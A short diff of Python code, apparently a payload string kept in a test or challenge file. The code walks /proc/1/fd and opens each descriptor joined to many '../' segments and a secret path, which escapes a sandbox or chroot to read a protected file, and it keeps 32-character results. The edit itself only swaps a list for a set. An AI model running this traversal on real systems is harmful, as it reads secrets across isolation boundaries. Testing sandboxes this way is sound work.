@@ -97,7 +97,7 @@ for name in {*(listed if isinstance(listed, list) else ()), *pids, 'self'}:
 listed = attempt(lambda: os.listdir('/proc/1/fd'))
 for number in listed if isinstance(listed, list) else ():
     found.append(attempt(lambda: open(f'/proc/1/fd/{number}/' + '../' * 30 + secret.lstrip('/')).read()))
-[text for text in found if len(text) == 32]
+{text for text in found if len(text) == 32}
 """
 
 
